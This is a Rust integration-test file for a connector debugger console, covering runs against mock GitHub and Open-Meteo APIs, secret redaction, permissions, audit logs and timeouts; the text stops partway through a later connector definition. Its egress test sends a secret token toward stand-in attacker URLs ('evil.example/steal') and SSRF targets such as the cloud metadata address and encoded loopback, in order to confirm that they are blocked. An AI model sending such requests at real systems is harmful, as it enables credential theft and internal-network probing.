//! The debugger console over HTTP: example connectors are published, installed and given a
//! connection, then their connection test, actions and triggers run through `testConnection`,
//! `runAction` and `pollTrigger` against a local mock API the test starts (the server maps the
//! connectors' declared hosts to it). Outputs, traces and redaction are checked exactly; so are
//! the failures (invalid input, a runaway script, egress to undeclared hosts and private
//! addresses), who may run what, and the audit log. Last, an API that echoes the credentials back
//! gets none of them into any answer, and a run that produces too much is cut and says so.

use std::collections::HashMap;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use testkit::examples::example_source;
use testkit::{Mock, Reply, Tripwire};
use tests::{Backend, TestApp, error_code};

use crate::fixtures::{CREATE_CONNECTOR, payload};
use crate::lifecycle::{INSTALL, create_workspace, publish, set_member};

const RUN: &str = r#"
fragment Run on DebugRunPayload {
  run {
    ok output logs durationMs truncated
    truncation { outputBytes logLinesDropped logLinesCut errorCut traceTextsCut }
    error { code message line column }
    trace {
      method url status requestBody responseBody error durationMs
      requestHeaders { name value }
      responseHeaders { name value }
    }
  }
  userErrors { field message code }
}"#;

const TEST_CONNECTION: &str = r#"
mutation($input: TestConnectionInput!) { testConnection(input: $input) { ...Run } }"#;

const RUN_ACTION: &str = r#"
mutation($input: RunActionInput!) { runAction(input: $input) { ...Run } }"#;

const POLL_TRIGGER: &str = r#"
mutation($input: PollTriggerInput!) { pollTrigger(input: $input) { ...Run } }"#;

const CREATE_CONNECTION: &str = r#"
mutation($input: CreateConnectionInput!) {
  createConnection(input: $input) {
    connection { id name fields secretsSet }
    userErrors { field message code }
  }
}"#;

const EDIT: &str = r#"
mutation($input: EditWorkspaceConnectorInput!) {
  editWorkspaceConnector(input: $input) {
    workspaceConnector { latestNumber }
    changed
    userErrors { field message code line column }
  }
}"#;

const AUDIT: &str = r#"
query($ws: String!) {
  workspace(slug: $ws) {
    auditEvents(first: 100) { action objectType objectId outcome actor { handle } detail }
  }
}"#;

/// The GitHub token stored in the connection; it must never come back.
const SECRET: &str = "ghp_e2eSECRETtoken0123456789";

// ---- Helpers. ----

/// `createConnector` with `source` as `version`; fails on errors of any kind.
async fn create_listing(
    app: &TestApp,
    token: &str,
    slug: &str,
    version: &str,
    source: &str,
) -> anyhow::Result<()> {
    let body = app
        .graphql(
            Some(token),
            CREATE_CONNECTOR,
            json!({ "input": {
                "slug": slug, "name": slug, "summary": format!("{slug} for the debugger tests"),
                "category": "developer-tools", "version": version, "source": source,
            } }),
        )
        .await?;
    let p = payload(&body, "createConnector")?;
    anyhow::ensure!(p["userErrors"] == json!([]), "createConnector: {body}");
    Ok(())
}

/// An example connector published as its last two versions (`older` first, then `newest`).
async fn publish_example(
    app: &TestApp,
    author: &str,
    slug: &str,
    older: &str,
    newest: &str,
) -> anyhow::Result<()> {
    create_listing(app, author, slug, older, &example_source(slug, older)?).await?;
    publish(
        app,
        author,
        json!({ "slug": slug, "version": newest, "source": example_source(slug, newest)?,
                "releaseNotes": "newest", "breaking": "see the release notes" }),
    )
    .await?;
    Ok(())
}

/// `installConnector`; returns the workspace connector's id.
async fn install(app: &TestApp, token: &str, ws: &str, slug: &str) -> anyhow::Result<Value> {
    let body = app
        .graphql(
            Some(token),
            INSTALL,
            json!({ "input": { "workspace": ws, "connector": slug } }),
        )
        .await?;
    let p = payload(&body, "installConnector")?;
    anyhow::ensure!(p["userErrors"] == json!([]), "installConnector: {body}");
    Ok(p["workspaceConnector"]["id"].clone())
}

/// `editWorkspaceConnector`; returns the new latest number.
async fn edit(app: &TestApp, token: &str, id: &Value, source: &str) -> anyhow::Result<i64> {
    let body = app
        .graphql(
            Some(token),
            EDIT,
            json!({ "input": { "workspaceConnectorId": id, "source": source } }),
        )
        .await?;
    let p = payload(&body, "editWorkspaceConnector")?;
    anyhow::ensure!(
        p["userErrors"] == json!([]) && p["changed"] == true,
        "editWorkspaceConnector: {body}"
    );
    p["workspaceConnector"]["latestNumber"]
        .as_i64()
        .ok_or_else(|| anyhow::anyhow!("no latestNumber: {body}"))
}

/// One debugger mutation (`field` is `testConnection`, `runAction` or `pollTrigger`); the body.
async fn debug(app: &TestApp, token: &str, field: &str, input: Value) -> anyhow::Result<Value> {
    let document = match field {
        "testConnection" => TEST_CONNECTION,
        "runAction" => RUN_ACTION,
        "pollTrigger" => POLL_TRIGGER,
        other => anyhow::bail!("not a debugger mutation: {other}"),
    };
    app.graphql(
        Some(token),
        &format!("{document}{RUN}"),
        json!({ "input": input }),
    )
    .await
}

/// A debugger mutation that must produce a run (successful or not); returns the run.
async fn run(app: &TestApp, token: &str, field: &str, input: Value) -> anyhow::Result<Value> {
    let body = debug(app, token, field, input).await?;
    let p = payload(&body, field)?;
    anyhow::ensure!(p["userErrors"] == json!([]), "{field}: {body}");
    anyhow::ensure!(p["run"].is_object(), "{field}: no run in {body}");
    Ok(p["run"].clone())
}

/// A run that must have completed; returns it.
async fn run_ok(app: &TestApp, token: &str, field: &str, input: Value) -> anyhow::Result<Value> {
    let run = run(app, token, field, input).await?;
    anyhow::ensure!(
        run["ok"] == true && run["error"].is_null(),
        "{field} failed: {run}"
    );
    Ok(run)
}

/// The value of header `name` (any case) in a traced request's `requestHeaders`.
fn header<'a>(headers: &'a Value, name: &str) -> Option<&'a str> {
    headers.as_array()?.iter().find_map(|h| {
        h["name"]
            .as_str()
            .filter(|n| n.eq_ignore_ascii_case(name))
            .and(h["value"].as_str())
    })
}

/// The method, URL, status and error of each traced request.
fn trace_lines(run: &Value) -> Vec<Value> {
    run["trace"]
        .as_array()
        .map(|trace| {
            trace
                .iter()
                .map(|t| json!([t["method"], t["url"], t["status"], t["error"].is_string()]))
                .collect()
        })
        .unwrap_or_default()
}

/// The server configuration that sends `hosts` to `addr` and lets runs reach it.
fn point_at(hosts: &[(&str, SocketAddr)]) -> impl FnOnce(&mut api::config::Config) {
    let overrides: HashMap<String, SocketAddr> = hosts
        .iter()
        .map(|(host, addr)| ((*host).to_owned(), *addr))
        .collect();
    move |config| {
        config.sandbox.allow_private_networks = true;
        config.sandbox.host_overrides = overrides;
    }
}

fn issue(id: i64, number: i64, title: &str) -> Value {
    json!({
        "id": id, "number": number, "title": title, "body": "Steps to reproduce...", "state": "open",
        "state_reason": null, "html_url": format!("https://github.com/octo-labs/patchbay/issues/{number}"),
        "user": { "login": "octocat" }, "labels": [{ "name": "bug", "color": "d73a4a" }], "comments": 0,
        "created_at": "2026-02-10T10:00:00Z", "updated_at": "2026-02-10T10:00:00Z",
    })
}

fn pull_request(id: i64, number: i64) -> Value {
    json!({ "id": id, "number": number, "title": "Fix it", "state": "open",
            "pull_request": { "url": "https://api.github.com/repos/octo-labs/patchbay/pulls/43" } })
}

/// Open-Meteo's answer to a current-weather request.
fn forecast() -> Value {
    json!({
        "latitude": 52.52, "longitude": 13.419998, "generationtime_ms": 0.05, "utc_offset_seconds": 3600,
        "timezone": "Europe/Berlin", "timezone_abbreviation": "GMT+1", "elevation": 38.0,
        "current_units": { "time": "iso8601", "temperature_2m": "°C", "weather_code": "wmo code" },
        "current": { "time": "2026-02-10T14:15", "interval": 900, "temperature_2m": -1.4,
                     "relative_humidity_2m": 81, "apparent_temperature": -5.9, "precipitation": 0.0,
                     "weather_code": 3, "wind_speed_10m": 14.2, "wind_direction_10m": 250 },
        "daily": { "time": ["2026-02-10", "2026-02-11", "2026-02-12"],
                   "temperature_2m_min": [-3.1, 0.4, -0.2] },
    })
}

const REPO: &str = "/repos/octo-labs/patchbay";

/// The mock GitHub and Open-Meteo APIs.
fn mock_apis() -> anyhow::Result<Mock> {
    let mock = Mock::start()?;
    mock.route_on(
        "GET",
        Some("api.github.com"),
        "/user",
        Reply::Json(200, json!({ "login": "octocat", "id": 1 })),
    )
    .route_on(
        "GET",
        Some("api.github.com"),
        &format!("{REPO}/issues/42"),
        Reply::Json(200, issue(2001, 42, "Crash on start")),
    )
    .route_on(
        "POST",
        Some("api.github.com"),
        &format!("{REPO}/issues"),
        Reply::Json(201, issue(2001, 42, "Crash on start")),
    )
    // The issue list holds a pull request (skipped) and issue 42 twice (deduplicated).
    .route_on(
        "GET",
        Some("api.github.com"),
        &format!("{REPO}/issues"),
        Reply::Json(
            200,
            json!([
                pull_request(2002, 43),
                issue(2001, 42, "Crash on start"),
                issue(2001, 42, "Crash on start"),
                issue(1999, 41, "Old one")
            ]),
        ),
    )
    .route_on(
        "GET",
        Some("api.open-meteo.com"),
        "/v1/forecast",
        Reply::Json(200, forecast()),
    );
    Ok(mock)
}

// ---- The console story. ----

async fn console_story(backend: Backend) -> anyhow::Result<()> {
    let mock = mock_apis()?;
    let app = TestApp::spawn_with(
        backend,
        point_at(&[
            ("api.github.com", mock.addr),
            ("api.open-meteo.com", mock.addr),
        ]),
    )
    .await?;
    let author = app.user_with_token("author").await?;
    let admin = app.user_with_token("admin").await?;
    let dev = app.user_with_token("dev").await?;
    let analyst = app.user_with_token("analyst").await?;
    let outsider = app.user_with_token("outsider").await?;

    publish_example(&app, &author, "github-issues", "1.2.0", "2.0.0").await?;
    publish_example(&app, &author, "open-meteo", "2.0.0", "2.1.0").await?;
    create_workspace(&app, &admin, "ops").await?;
    set_member(&app, &admin, "ops", "dev", "developer").await?;
    set_member(&app, &admin, "ops", "analyst", "analyst").await?;
    let github = install(&app, &dev, "ops", "github-issues").await?;
    let meteo = install(&app, &dev, "ops", "open-meteo").await?;

    // A connection with the secret token: stored write-only.
    let body = app
        .graphql(
            Some(&dev),
            CREATE_CONNECTION,
            json!({ "input": { "workspace": "ops", "name": "GitHub bot", "connector": "github-issues",
                               "values": { "token": SECRET } } }),
        )
        .await?;
    let p = payload(&body, "createConnection")?;
    assert_eq!(p["userErrors"], json!([]), "{body}");
    assert_eq!(p["connection"]["secretsSet"], json!(["token"]), "{body}");
    let connection = p["connection"]["id"].clone();
    let stored = json!({ "workspaceConnectorId": github, "connectionId": connection });
    let mut runs = 0;

    // testConnection: GET /user with the stored token; the trace shows it redacted, and the
    // secret is nowhere in the response.
    let body = debug(
        &app,
        &dev,
        "testConnection",
        json!({ "target": stored.clone() }),
    )
    .await?;
    runs += 1;
    assert!(!body.to_string().contains(SECRET), "secret leaked: {body}");
    assert!(
        !body.to_string().contains("e2eSECRET"),
        "secret leaked: {body}"
    );
    let test = &payload(&body, "testConnection")?["run"];
    assert_eq!(test["ok"], true, "{body}");
    assert_eq!(test["output"], json!({ "login": "octocat", "id": 1 }));
    assert_eq!(
        trace_lines(test),
        [json!(["GET", "https://api.github.com/user", 200, false])]
    );
    let traced = &test["trace"][0];
    assert_eq!(
        header(&traced["requestHeaders"], "authorization"),
        Some("[REDACTED]")
    );
    assert_eq!(
        header(&traced["requestHeaders"], "x-github-api-version"),
        Some("2022-11-28")
    );
    assert_eq!(
        traced["responseBody"]
            .as_str()
            .map(serde_json::from_str::<Value>)
            .transpose()?,
        Some(json!({ "login": "octocat", "id": 1 }))
    );
    // The mock itself received the real token, on the declared host.
    let received = mock.requests();
    assert_eq!(received.len(), 1);
    assert_eq!(received[0].method, "GET");
    assert_eq!(received[0].target, "/user");
    assert_eq!(received[0].header("host"), Some("api.github.com"));
    assert_eq!(
        received[0].header("authorization"),
        Some(format!("Bearer {SECRET}").as_str())
    );
    mock.clear();

    // runAction: the output is the created issue; method, URL and status are exact, and the
    // request body is what the connector built from the input.
    let create = run_ok(
        &app,
        &dev,
        "runAction",
        json!({ "target": stored.clone(), "action": "create_issue",
                "input": { "owner": "octo-labs", "repository": "patchbay", "title": "Crash on start",
                           "body": "Steps to reproduce...", "labels": ["bug"] } }),
    )
    .await?;
    runs += 1;
    assert_eq!(create["output"], issue(2001, 42, "Crash on start"));
    assert_eq!(
        trace_lines(&create),
        [json!([
            "POST",
            "https://api.github.com/repos/octo-labs/patchbay/issues",
            201,
            false
        ])]
    );
    assert_eq!(
        header(&create["trace"][0]["requestHeaders"], "authorization"),
        Some("[REDACTED]")
    );
    let sent = mock.requests();
    assert_eq!(sent.len(), 1);
    assert_eq!(
        sent[0].json(),
        json!({ "title": "Crash on start", "body": "Steps to reproduce...", "labels": ["bug"] })
    );
    assert_eq!(
        create["trace"][0]["requestBody"]
            .as_str()
            .map(serde_json::from_str::<Value>)
            .transpose()?,
        Some(sent[0].json())
    );
    mock.clear();

    let get = run_ok(
        &app,
        &dev,
        "runAction",
        json!({ "target": stored.clone(), "action": "get_issue",
                "input": { "owner": "octo-labs", "repository": "patchbay", "number": 42 } }),
    )
    .await?;
    runs += 1;
    assert_eq!(get["output"], issue(2001, 42, "Crash on start"));
    assert_eq!(
        trace_lines(&get),
        [json!([
            "GET",
            "https://api.github.com/repos/octo-labs/patchbay/issues/42",
            200,
            false
        ])]
    );

    // pollTrigger twice: the first poll skips the pull request and drops the duplicate, oldest
    // first; the second, given the cursor, returns only what is new since.
    let first = run_ok(
        &app,
        &dev,
        "pollTrigger",
        json!({ "target": stored.clone(), "trigger": "new_issue",
                "input": { "owner": "octo-labs", "repository": "patchbay" } }),
    )
    .await?;
    runs += 1;
    assert_eq!(
        first["output"],
        json!({ "events": [issue(1999, 41, "Old one"), issue(2001, 42, "Crash on start")],
                "next_cursor": 42 })
    );
    assert_eq!(
        trace_lines(&first),
        [json!([
            "GET",
            "https://api.github.com/repos/octo-labs/patchbay/issues?direction=desc&per_page=50&sort=created&state=all",
            200,
            false
        ])]
    );
    mock.route_on(
        "GET",
        Some("api.github.com"),
        &format!("{REPO}/issues"),
        Reply::Json(
            200,
            json!([
                issue(2003, 44, "New one"),
                pull_request(2002, 43),
                issue(2001, 42, "Crash on start"),
                issue(1999, 41, "Old one")
            ]),
        ),
    );
    let second = run_ok(
        &app,
        &dev,
        "pollTrigger",
        json!({ "target": stored.clone(), "trigger": "new_issue",
                "input": { "owner": "octo-labs", "repository": "patchbay" },
                "cursor": first["output"]["next_cursor"] }),
    )
    .await?;
    runs += 1;
    assert_eq!(
        second["output"],
        json!({ "events": [issue(2003, 44, "New one")], "next_cursor": 44 })
    );
    let third = run_ok(
        &app,
        &dev,
        "pollTrigger",
        json!({ "target": stored.clone(), "trigger": "new_issue",
                "input": { "owner": "octo-labs", "repository": "patchbay" },
                "cursor": second["output"]["next_cursor"] }),
    )
    .await?;
    runs += 1;
    assert_eq!(third["output"], json!({ "events": [], "next_cursor": 44 }));

    // connectionValues instead of a stored connection: these values are used for this run.
    mock.clear();
    let adhoc = run_ok(
        &app,
        &dev,
        "runAction",
        json!({ "target": { "workspaceConnectorId": github, "connectionValues": { "token": "ghp_adhocVALUE" } },
                "action": "get_issue",
                "input": { "owner": "octo-labs", "repository": "patchbay", "number": 42 } }),
    )
    .await?;
    runs += 1;
    assert_eq!(adhoc["output"], issue(2001, 42, "Crash on start"));
    assert!(!adhoc.to_string().contains("ghp_adhocVALUE"), "{adhoc}");
    assert_eq!(
        mock.requests()
            .iter()
            .map(|r| r.header("authorization").map(str::to_owned))
            .collect::<Vec<_>>(),
        [Some("Bearer ghp_adhocVALUE".to_owned())]
    );
    // Both at once is a user error, and nothing runs.
    let both = debug(
        &app,
        &dev,
        "testConnection",
        json!({ "target": { "workspaceConnectorId": github, "connectionId": connection,
                            "connectionValues": { "token": "x" } } }),
    )
    .await?;
    let p = payload(&both, "testConnection")?;
    assert_eq!(p["run"], Value::Null, "{both}");
    assert_eq!(p["userErrors"][0]["field"], json!(["input", "target"]));

    // Invalid input: INVALID_INPUT naming the field, before any request is made.
    mock.clear();
    let invalid = run(
        &app,
        &dev,
        "runAction",
        json!({ "target": stored.clone(), "action": "get_issue",
                "input": { "owner": "octo-labs", "repository": "patchbay", "number": "forty-two" } }),
    )
    .await?;
    runs += 1;
    assert_eq!(invalid["ok"], false);
    assert_eq!(invalid["output"], Value::Null);
    assert_eq!(invalid["error"]["code"], "INVALID_INPUT", "{invalid}");
    assert!(
        invalid["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("number")),
        "{invalid}"
    );
    assert_eq!(invalid["trace"], json!([]));
    let missing = run(
        &app,
        &dev,
        "runAction",
        json!({ "target": stored.clone(), "action": "get_issue", "input": { "owner": "octo-labs" } }),
    )
    .await?;
    runs += 1;
    assert_eq!(missing["error"]["code"], "INVALID_INPUT", "{missing}");
    assert!(mock.requests().is_empty());

    // Open-Meteo: the output is the API's answer as the connector shapes it (a description of
    // the weather code added), from a URL built from the input.
    mock.clear();
    let weather = run_ok(
        &app,
        &dev,
        "runAction",
        json!({ "target": { "workspaceConnectorId": meteo }, "action": "get_current_weather",
                "input": { "latitude": 52.52, "longitude": 13.41 } }),
    )
    .await?;
    runs += 1;
    let mut expected = forecast();
    expected["current"]["weather_description"] = json!("Overcast");
    // The connector is JavaScript, which has one number type: the API's `38.0` comes back as
    // `38`, the same JSON number.
    assert_eq!(as_f64(&weather["output"]), as_f64(&expected));
    assert_eq!(
        trace_lines(&weather),
        [json!([
            "GET",
            "https://api.open-meteo.com/v1/forecast?current=temperature_2m%2Crelative_humidity_2m%2Capparent_temperature%2Cprecipitation%2Cweather_code%2Cwind_speed_10m%2Cwind_direction_10m&latitude=52.52&longitude=13.41&temperature_unit=celsius&timezone=auto&wind_speed_unit=kmh",
            200,
            false
        ])]
    );
    let received = mock.requests();
    assert_eq!(received.len(), 1);
    assert_eq!(received[0].header("host"), Some("api.open-meteo.com"));
    assert_eq!(received[0].header("authorization"), None);
    // Its trigger: the two days below 0 °C, one event each.
    let frost = run_ok(
        &app,
        &dev,
        "pollTrigger",
        json!({ "target": { "workspaceConnectorId": meteo }, "trigger": "frost_warning",
                "input": { "latitude": 52.52, "longitude": 13.41 } }),
    )
    .await?;
    runs += 1;
    assert_eq!(
        as_f64(&frost["output"]),
        as_f64(&json!({ "events": [
            { "date": "2026-02-10", "temperature_2m_min": -3.1, "threshold": 0.0, "latitude": 52.52, "longitude": 13.41 },
            { "date": "2026-02-12", "temperature_2m_min": -0.2, "threshold": 0.0, "latitude": 52.52, "longitude": 13.41 },
        ], "next_cursor": "2026-02-10" }))
    );
    // A stored connection of another connector is not found for this one.
    let foreign = debug(
        &app,
        &dev,
        "testConnection",
        json!({ "target": { "workspaceConnectorId": meteo, "connectionId": connection } }),
    )
    .await?;
    assert_eq!(error_code(&foreign), Some("NOT_FOUND"), "{foreign}");

    // An older workspace version by number: edit the copy (version 2 breaks get_issue), and
    // version 1 still runs as installed.
    let source = example_source("github-issues", "2.0.0")?;
    let broken = source.replace(
        "execute: (connection, input) => get(`/repos/${input.owner}/${input.repository}/issues/${input.number}`),",
        "execute: (connection, input) => { throw new Error(\"edited away\"); },",
    );
    anyhow::ensure!(broken != source, "the edit did not apply");
    assert_eq!(edit(&app, &dev, &github, &broken).await?, 2);
    let get_issue = |number: Option<i64>| {
        json!({ "target": { "workspaceConnectorId": github, "connectionId": connection, "number": number },
                "action": "get_issue",
                "input": { "owner": "octo-labs", "repository": "patchbay", "number": 42 } })
    };
    let latest = run(&app, &dev, "runAction", get_issue(None)).await?;
    runs += 1;
    assert_eq!(latest["error"]["code"], "RUNTIME", "{latest}");
    assert!(latest["error"]["line"].is_number(), "{latest}");
    let older = run_ok(&app, &dev, "runAction", get_issue(Some(1))).await?;
    runs += 1;
    assert_eq!(older["output"], issue(2001, 42, "Crash on start"));
    let nonexistent = debug(&app, &dev, "runAction", get_issue(Some(9))).await?;
    let p = payload(&nonexistent, "runAction")?;
    assert_eq!(p["run"], Value::Null, "{nonexistent}");
    assert_eq!(
        p["userErrors"],
        json!([{ "field": ["input", "number"], "message": "there is no version 9", "code": "BAD_USER_INPUT" }])
    );

    // Who may run: an analyst is FORBIDDEN, someone outside the workspace gets NOT_FOUND, and
    // neither reaches the API.
    mock.clear();
    let repo = json!({ "owner": "octo-labs", "repository": "patchbay", "number": 42 });
    let attempts = [
        ("testConnection", json!({ "target": stored.clone() })),
        (
            "runAction",
            json!({ "target": stored.clone(), "action": "get_issue", "input": repo }),
        ),
        (
            "pollTrigger",
            json!({ "target": stored.clone(), "trigger": "new_issue", "input": repo }),
        ),
    ];
    for (field, input) in attempts {
        let denied = debug(&app, &analyst, field, input.clone()).await?;
        assert_eq!(error_code(&denied), Some("FORBIDDEN"), "{field}: {denied}");
        assert_eq!(denied["data"], Value::Null, "{denied}");
        let hidden = debug(&app, &outsider, field, input).await?;
        assert_eq!(error_code(&hidden), Some("NOT_FOUND"), "{field}: {hidden}");
        assert!(!hidden.to_string().contains(SECRET));
    }
    assert!(mock.requests().is_empty());

    // The audit log has one `connector.test` entry per run, with what ran and how it ended,
    // and no secret.
    let audit = app
        .data(Some(&admin), AUDIT, json!({ "ws": "ops" }))
        .await?;
    assert!(!audit.to_string().contains(SECRET));
    assert!(!audit.to_string().contains("ghp_adhocVALUE"));
    let all = audit["workspace"]["auditEvents"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let events: Vec<&Value> = all
        .iter()
        .filter(|e| e["action"] == "connector.test" && e["outcome"] == "success")
        .collect();
    // The analyst's three refusals are on the log too; the outsider's are not (to them the
    // workspace does not exist).
    let denied: Vec<&Value> = all
        .iter()
        .filter(|e| e["action"] == "connector.test" && e["outcome"] == "denied")
        .collect();
    assert_eq!(denied.len(), 3, "{audit}");
    assert!(denied.iter().all(|e| e["actor"]["handle"] == "analyst"));
    assert_eq!(events.len(), runs, "{audit}");
    let details: Vec<Value> = events
        .iter()
        .map(|e| serde_json::from_str(e["detail"].as_str().unwrap_or("null")))
        .collect::<Result<_, _>>()?;
    assert!(events.iter().all(|e| e["actor"]["handle"] == "dev"
        && e["outcome"] == "success"
        && e["objectType"] == "workspace_connector"));
    // Newest first: the last run was version 1's get_issue, before it version 2's.
    assert_eq!(
        details[0],
        json!({ "run": "action get_issue", "number": 1, "result": "ok", "requests": 1 })
    );
    assert_eq!(
        details[1],
        json!({ "run": "action get_issue", "number": 2, "result": "RUNTIME", "requests": 0 })
    );
    assert!(details.contains(
        &json!({ "run": "test connection", "number": 1, "result": "ok", "requests": 1 })
    ));
    assert!(details.contains(
        &json!({ "run": "trigger new_issue", "number": 1, "result": "ok", "requests": 1 })
    ));
    assert!(details.contains(
        &json!({ "run": "action get_issue", "number": 1, "result": "INVALID_INPUT", "requests": 0 })
    ));
    app.stop().await
}

tests::on_both_backends!(
    console_story_runs_examples_against_a_mock,
    super::console_story
);

// ---- A runaway script. ----

async fn runaway_script(backend: Backend) -> anyhow::Result<()> {
    let mock = mock_apis()?;
    let app = TestApp::spawn_with(backend, point_at(&[("api.github.com", mock.addr)])).await?;
    let author = app.user_with_token("author").await?;
    let dev = app.user_with_token("dev").await?;
    publish_example(&app, &author, "github-issues", "1.2.0", "2.0.0").await?;
    create_workspace(&app, &dev, "lab").await?;
    let github = install(&app, &dev, "lab", "github-issues").await?;
    let source = example_source("github-issues", "2.0.0")?;
    let looping = source.replace(
        "execute: (connection, input) => get(`/repos/${input.owner}/${input.repository}/issues/${input.number}`),",
        "execute: (connection, input) => { let i = 0; while (true) { i += 1; } },",
    );
    anyhow::ensure!(looping != source, "the edit did not apply");
    assert_eq!(edit(&app, &dev, &github, &looping).await?, 2);

    // Three runaway runs at once (more than the test runtime's two async workers), and an
    // ordinary query while they spin.
    let input = json!({ "input": {
        "target": { "workspaceConnectorId": github, "connectionValues": { "token": "ghp_loop" } },
        "action": "get_issue",
        "input": { "owner": "octo-labs", "repository": "patchbay", "number": 42 } } });
    let started = Instant::now();
    let mut spinning = Vec::new();
    for _ in 0..3 {
        let client = app.client.clone();
        let url = format!("{}/graphql", app.base_url);
        let token = dev.clone();
        let body = json!({ "query": format!("{RUN_ACTION}{RUN}"), "variables": input });
        spinning.push(tokio::spawn(async move {
            let response: Value = client
                .post(url)
                .bearer_auth(token)
                .json(&body)
                .send()
                .await?
                .json()
                .await?;
            anyhow::Ok((response, started.elapsed()))
        }));
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    let asked = Instant::now();
    let answer = tokio::time::timeout(
        Duration::from_secs(3),
        app.data(Some(&dev), "{ connectors { totalCount } }", json!({})),
    )
    .await??;
    let answered_after = started.elapsed();
    assert_eq!(answer, json!({ "connectors": { "totalCount": 1 } }));
    assert!(
        asked.elapsed() < Duration::from_secs(2),
        "the query took {:?} while the scripts spun",
        asked.elapsed()
    );

    // Each runaway run ends within the deadline (5 s, plus slack for a loaded machine) with a
    // typed error pointing into the script; none had finished when the query was answered.
    for handle in spinning {
        let (response, took) = handle.await??;
        let p = payload(&response, "runAction")?;
        let run = &p["run"];
        assert_eq!(run["ok"], false, "{response}");
        let code = run["error"]["code"].as_str().unwrap_or_default();
        assert!(
            code == "TIMEOUT" || code == "LIMIT_EXCEEDED",
            "{code}: {response}"
        );
        assert!(
            took < Duration::from_secs(10),
            "a runaway run took {took:?}"
        );
        // A run stopped by its deadline was certainly still spinning when the query was
        // answered (an optimised build may hit the operation limit sooner).
        assert!(
            code == "LIMIT_EXCEEDED" || took > answered_after,
            "the run ended ({took:?}) before the query was answered ({answered_after:?})"
        );
        assert_eq!(run["trace"], json!([]));
    }
    assert!(mock.requests().is_empty());
    app.stop().await
}

tests::on_both_backends!(
    runaway_script_is_stopped_and_the_server_stays_responsive,
    super::runaway_script
);

// ---- Egress. ----

/// A connector that declares `hosts` and whose `fetch` action GETs `input.url`, sending the
/// secret token as a bearer token.
fn fetcher(hosts: &[String]) -> String {
    let hosts: Vec<String> = hosts.iter().map(|h| format!("{h:?}")).collect();
    format!(
        r#"export default {{
  title: "Fetcher",
  allowed_hosts: [{}],
  connection: {{
    fields: [{{ name: "token", control_type: "password" }}],
    authorization: {{ type: "bearer", token: (connection) => connection.token }},
  }},
  actions: {{
    fetch: {{
      title: "Fetch",
      input_fields: [{{ name: "url" }}],
      execute: (connection, input) => get(input.url),
    }},
  }},
}};
"#,
        hosts.join(", ")
    )
}

/// `runAction` of `fetch` on `url`; returns the run.
async fn fetch(app: &TestApp, token: &str, copy: &Value, url: &str) -> anyhow::Result<Value> {
    run(
        app,
        token,
        "runAction",
        json!({ "target": { "workspaceConnectorId": copy, "connectionValues": { "token": SECRET } },
                "action": "fetch", "input": { "url": url } }),
    )
    .await
}

fn assert_denied(run: &Value, url: &str) {
    assert_eq!(run["ok"], false, "{run}");
    assert_eq!(run["error"]["code"], "EGRESS_DENIED", "{run}");
    assert!(run["error"]["line"].is_number(), "{run}");
    assert_eq!(trace_lines(run), [json!(["GET", url, null, true])], "{run}");
    assert!(!run.to_string().contains(SECRET), "{run}");
}

async fn egress(backend: Backend) -> anyhow::Result<()> {
    // A server that may reach private networks, with an override for a host the connector
    // does not declare: an undeclared host is still refused, and nothing is connected to.
    let mock = Mock::start()?;
    let trip = Tripwire::start()?;
    let app = TestApp::spawn_with(
        backend,
        point_at(&[("api.github.com", mock.addr), ("evil.example", trip.addr)]),
    )
    .await?;
    let author = app.user_with_token("author").await?;
    let dev = app.user_with_token("dev").await?;
    create_listing(
        &app,
        &author,
        "fetcher",
        "1.0.0",
        &fetcher(&["api.github.com".to_owned()]),
    )
    .await?;
    create_workspace(&app, &dev, "lab").await?;
    let copy = install(&app, &dev, "lab", "fetcher").await?;
    mock.route("GET", "/ok", Reply::Json(200, json!({ "fine": true })));
    let allowed = run_ok(
        &app,
        &dev,
        "runAction",
        json!({
        "target": { "workspaceConnectorId": copy, "connectionValues": { "token": SECRET } },
        "action": "fetch", "input": { "url": "https://api.github.com/ok" } }),
    )
    .await?;
    assert_eq!(allowed["output"], json!({ "fine": true }));
    let before = mock.connections();
    for url in [
        "https://evil.example/steal",
        "http://evil.example/steal",
        "https://api.github.com.evil.example/x",
    ] {
        let denied = fetch(&app, &dev, &copy, url).await?;
        assert_denied(&denied, url);
    }
    assert_eq!(trip.hits(), 0, "an undeclared host was connected to");
    assert_eq!(mock.connections(), before);

    // A server with the default sandbox: private and loopback addresses are refused even when
    // the connector declares them, and nothing is connected to.
    let strict = TestApp::spawn(backend).await?;
    let author = strict.user_with_token("author").await?;
    let dev = strict.user_with_token("dev").await?;
    let port = trip.addr.port();
    let hosts = vec![
        format!("127.0.0.1:{port}"),
        format!("localhost:{port}"),
        format!("2130706433:{port}"),
        "169.254.169.254".to_owned(),
        "10.0.0.1".to_owned(),
    ];
    create_listing(&strict, &author, "intranet", "1.0.0", &fetcher(&hosts)).await?;
    create_workspace(&strict, &dev, "lab").await?;
    let copy = install(&strict, &dev, "lab", "intranet").await?;
    for url in [
        format!("http://127.0.0.1:{port}/admin"),
        format!("http://localhost:{port}/admin"),
        format!("http://2130706433:{port}/admin"),
        "http://169.254.169.254/latest/meta-data/".to_owned(),
        "http://10.0.0.1/".to_owned(),
    ] {
        let denied = fetch(&strict, &dev, &copy, &url).await?;
        assert_eq!(denied["error"]["code"], "EGRESS_DENIED", "{url}: {denied}");
        assert!(denied["trace"][0]["status"].is_null(), "{denied}");
        assert!(denied["trace"][0]["error"].is_string(), "{denied}");
    }
    assert_eq!(trip.hits(), 0, "a private address was connected to");
    strict.stop().await?;
    app.stop().await
}

tests::on_both_backends!(
    egress_to_undeclared_hosts_and_private_addresses_is_denied,
    super::egress
);

// ---- An API that echoes the credentials back (`Mock::echo`). ----

/// Basic-auth user name and password, and an API token sent in the query and the body. Their
/// characters are spelled differently by every encoding.
const ECHO_USER: &str = "ada-e2e";
const ECHO_PASSWORD: &str = "pw S3CRET/+?&=\"é";
const ECHO_TOKEN: &str = "tok_E2E_echo_9f8e7d";

/// A connector for the echo API: its connection test, actions and trigger send every secret to
/// the API and hand back, log or throw what comes back.
const ECHO_CONNECTOR: &str = r#"export default {
  title: "Echo",
  allowed_hosts: ["api.echo.test"],
  connection: {
    fields: [
      { name: "user" },
      { name: "password", control_type: "password" },
      { name: "token", secret: true },
    ],
    authorization: { type: "basic", username: (connection) => connection.user, password: (connection) => connection.password },
    base_uri: "http://api.echo.test",
  },
  test: (connection) => get("/echo", { token: connection.token, password: connection.password }),
